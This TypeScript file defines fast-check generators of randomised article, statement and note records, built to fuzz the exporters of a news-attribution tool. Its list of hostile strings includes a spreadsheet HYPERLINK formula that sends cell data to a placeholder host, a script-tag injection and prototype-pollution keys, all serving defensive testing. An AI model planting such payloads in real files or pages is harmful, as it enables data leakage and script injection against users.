import fc from 'fast-check';
import {
  type ArticleRecord,
  type ArticleWithNotes,
  type ChainLink,
  GAP_IDS,
  type Gap,
  GENRES,
  type HumanNote,
  JUDGEMENTS,
  type MachineNote,
  NAMED_AS,
  PARAGRAPH_KINDS,
  type Paragraph,
  SEVERITIES,
  type Source,
  type Span,
  STATEMENT_TYPES,
  type Statement,
} from '../src/model/index.ts';
import { hashText } from '../src/text/hash.ts';

/** Texts that have broken exporters: formulas, markup, separators, controls, scripts of many directions and planes. */
export const HOSTILE = [
  '=HYPERLINK("http://x.example/?"&A1,"open")',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '\tindented',
  '\rreturned',
  "'=already guarded",
  "''",
  '<script>alert(1)</script>',
  '"quoted", with commas\r\nand lines\n',
  ']]>&amp;&#0;',
  '{"id":1}\n{"id":2}',
  '__proto__',
  'constructor',
  '\u0000\u0007\u001b[31m',
  'line\u2028separator\u2029and\u0085next',
  'مرحبا بالعالم',
  '\u202Eright to left\u202C',
  '👩🏾‍⚖️ 𠮷野家 e\u0301',
  '＝wide formula',
  '\uFEFFmarked',
  '',
  ' ',
] as const;

export const hostileText = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.tuple(fc.constantFrom(...HOSTILE), fc.constantFrom(...HOSTILE)).map((two) => two.join('')),
);

const orNull = <T>(value: fc.Arbitrary<T>) => fc.option(value, { nil: null });
const time = fc.integer({ min: 0, max: 4102444800000 });
const confidence = fc.integer({ min: 0, max: 100 }).map((percent) => percent / 100);
const few = <T>(value: fc.Arbitrary<T>) => fc.array(value, { maxLength: 3 });

/** Some fields always, each of the others now and then. */
const some = <T extends object>(
  fields: { [K in keyof Required<T>]: fc.Arbitrary<T[K]> },
  required: (keyof T)[],
): fc.Arbitrary<T> => fc.record(fields, { requiredKeys: required as never }) as unknown as fc.Arbitrary<T>;

/** Spans between the text's characters, so that none cuts a character of two units in half. */
const spanIn = (text: string): fc.Arbitrary<Span> => {
  const offsets = [0];
  for (const character of text) offsets.push(offsets.at(-1)! + character.length);
  return fc
    .tuple(fc.constantFrom(...offsets), fc.constantFrom(...offsets))
    .map(([one, other]) => [Math.min(one, other), Math.max(one, other)]);
};

const namedAs = fc.constantFrom(...NAMED_AS);

const chainLink = (span: fc.Arbitrary<Span>) =>
  some<ChainLink>(
    {
      role: fc.constantFrom('publisher', 'intermediary', 'speaker'),
      surface: orNull(hostileText),
      span: orNull(span),
      resolvesTo: hostileText,
      sourceId: hostileText,
      namedAs,
      candidates: few(hostileText),
      medium: orNull(hostileText),
      date: orNull(hostileText),
      place: orNull(hostileText),
      occasion: orNull(hostileText),
      verb: orNull(hostileText),
      verbSpan: span,
      url: orNull(hostileText),
      explicit: fc.constantFrom('in-sentence', 'carried-over', 'pronoun', 'inferred'),
      confidence,
    },
    ['role', 'surface', 'span', 'namedAs', 'explicit'],
  );

const statement = (span: fc.Arbitrary<Span>, paragraphs: number) =>
  some<Statement>(
    {
      id: hostileText,
      paragraph: fc.nat(Math.max(0, paragraphs - 1)),
      type: fc.constantFrom(...STATEMENT_TYPES),
      content: few(span),
      cue: few(span),
      source: few(span),
      speaker: some(
        { name: orNull(hostileText), namedAs, sourceId: hostileText, candidates: few(hostileText) },
        ['name', 'namedAs'],
      ),
      chainAsWritten: few(chainLink(span)),
      chainEffective: few(chainLink(span)),
      depth: fc.nat(4),
      confidence,
      nested: fc.boolean(),
      uncertain: few(span),
    },
    [
      'id',
      'paragraph',
      'type',
      'content',
      'cue',
      'source',
      'speaker',
      'chainAsWritten',
      'chainEffective',
      'depth',
      'confidence',
    ],
  );

const gap = (span: fc.Arbitrary<Span>, statementIds: string[]) =>
  some<Gap>(
    {
      key: hostileText,
      id: fc.constantFrom(...GAP_IDS),
      rule: fc.record({ id: hostileText, version: hostileText }),
      severity: fc.constantFrom(...SEVERITIES),
      statements: fc.uniqueArray(fc.oneof(fc.constantFrom(...statementIds, 'gone'), hostileText), {
        maxLength: 3,
      }),
      anchor: orNull(span),
      evidence: few(span),
      group: hostileText,
      repeat: fc.boolean(),
      standards: few(hostileText),
      note: fc.record({
        key: fc.constantFrom('gap_floating_quote', 'gap_unnamed_group', 'unheard_of'),
        slots: fc.dictionary(fc.constantFrom('candidate', 'descriptor', '__proto__', 'z', 'a'), hostileText),
      }),
      confidence,
      attributes: some(
        {
          subtype: hostileText,
          resolution: hostileText,
          candidate: hostileText,
          reasonText: hostileText,
          reasonQuality: hostileText,
        },
        [],
      ),
    },
    [
      'key',
      'id',
      'rule',
      'severity',
      'statements',
      'anchor',
      'evidence',
      'group',
      'standards',
      'note',
      'confidence',
      'attributes',
    ],
  );

const machineNote = (gaps: fc.Arbitrary<Gap>, articleId: string): fc.Arbitrary<MachineNote> =>
  fc
    .tuple(gaps, fc.constantFrom(...JUDGEMENTS), time, fc.boolean())
    .map(([found, judgement, judged, current]) => ({
      kind: 'machine',
      articleId,
      id: found.key,
      gap: found,
      judgement,
      judgedAt: judgement === 'open' ? null : judged,
      current,
    }));

const humanNote = (
  span: fc.Arbitrary<Span>,
  articleId: string,
  statementIds: string[],
): fc.Arbitrary<HumanNote> =>
  fc.record({
    kind: fc.constant('human'),
    articleId: fc.constant(articleId),
    id: hostileText,
    statementId: orNull(fc.constantFrom(...statementIds, 'gone')),
    quote: hostileText,
    anchor: orNull(span),
    text: hostileText,
    createdAt: time,
    updatedAt: time,
  });

const source = (span: fc.Arbitrary<Span>) =>
  some<Source>(
    {
      id: hostileText,
      name: orNull(hostileText),
      namedAs,
      mentions: few(span),
      candidates: few(hostileText),
    },
    ['id', 'name', 'namedAs', 'mentions'],
  );

const article = (id: string, text: string, paragraphs: Paragraph[]): fc.Arbitrary<ArticleRecord> =>
  fc.record({
    id: fc.constant(id),
    url: fc.oneof(fc.webUrl({ withFragments: true, withQueryParameters: true }), hostileText),
    canonicalUrl: fc.oneof(fc.webUrl(), hostileText),
    title: hostileText,
    byline: orNull(hostileText),
    outlet: orNull(hostileText),
    published: orNull(hostileText),
    modified: orNull(hostileText),
    language: orNull(fc.oneof(fc.constantFrom('en', 'pt-br'), hostileText)),
    genre: fc.constantFrom(...GENRES),
    foundIn: fc.dictionary(
      fc.constantFrom('title', 'byline', 'outlet'),
      fc.constantFrom('json-ld', 'meta', 'input'),
    ),
    text: fc.constant(text),
    paragraphs: fc.constant(paragraphs),
    textHash: fc.constant(hashText(text)),
    engine: fc.record({ name: hostileText, version: hostileText, weights: hostileText }),
    analysedLanguage: fc.oneof(fc.constant('en'), hostileText),
    analysedGenre: fc.constantFrom(...GENRES),
    sources: few(source(spanIn(text))),
    firstSeen: time,
    lastSeen: time,
  });

/** Paragraphs of hostile text, with kinds and links. */
const paragraphsOf = fc.array(
  fc.record({ words: hostileText, kind: fc.constantFrom(...PARAGRAPH_KINDS), url: fc.webUrl() }),
  { minLength: 1, maxLength: 5 },
);

/** An article with statements and notes, every field filled now and then, all of it hostile. */
export const articleWithNotes: fc.Arbitrary<ArticleWithNotes> = fc
  .tuple(fc.oneof(fc.webUrl(), hostileText), paragraphsOf)
  .chain(([id, blocks]) => {
    const text = blocks.map((block) => block.words).join('\n\n');
    let start = 0;
    const paragraphs = blocks.map(({ words, kind, url }): Paragraph => {
      const paragraph: Paragraph = {
        start,
        end: start + words.length,
        kind,
        links: [{ start, end: start, url }],
      };
      start += words.length + 2;
      return paragraph;
    });
    const span = spanIn(text);
    return fc
      .uniqueArray(statement(span, paragraphs.length), { maxLength: 4, selector: (it) => it.id })
      .chain((statements) => {
        const ids = statements.map((it) => it.id);
        return fc.record({
          article: article(id, text, paragraphs),
          statements: fc.constant(statements),
          notes: fc
            .tuple(
              fc.uniqueArray(machineNote(gap(span, ids), id), { maxLength: 4, selector: (it) => it.id }),
              fc.uniqueArray(humanNote(span, id, ids), { maxLength: 3, selector: (it) => it.id }),
            )
            .map(([machine, human]) => [...machine, ...human]),
        });
      });
  });
